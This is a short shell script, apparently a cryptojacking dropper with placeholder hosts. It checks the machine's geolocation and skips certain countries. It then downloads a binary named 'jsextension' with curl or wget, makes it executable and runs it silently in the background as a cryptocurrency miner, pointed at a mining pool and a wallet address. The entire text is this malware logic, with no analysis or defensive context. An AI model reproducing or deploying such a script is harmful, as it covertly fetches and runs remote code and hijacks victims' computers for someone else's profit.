IP=$(curl -k https://geoip.example.invalid/xml/ | grep 'RU\|UA\|BY\|KZ')
if [ -z "$IP" ]
    then
    var=$(pgrep jsextension)
    if [ -z "$var" ]
        then
        curl http://dl.example.invalid/download/jsextension -o jsextension
        if [ ! -f jsextension ]
            then
            wget http://dl.example.invalid/download/jsextension -O jsextension
        fi
        chmod +x jsextension
        ./jsextension -k --tls --rig-id q -o pool.example.invalid:443 -u EXAMPLE-WALLET-ADDRESS --cpu-max-threads-hint=50 --donate-level=1 --background &>/dev/null &
    fi
fi
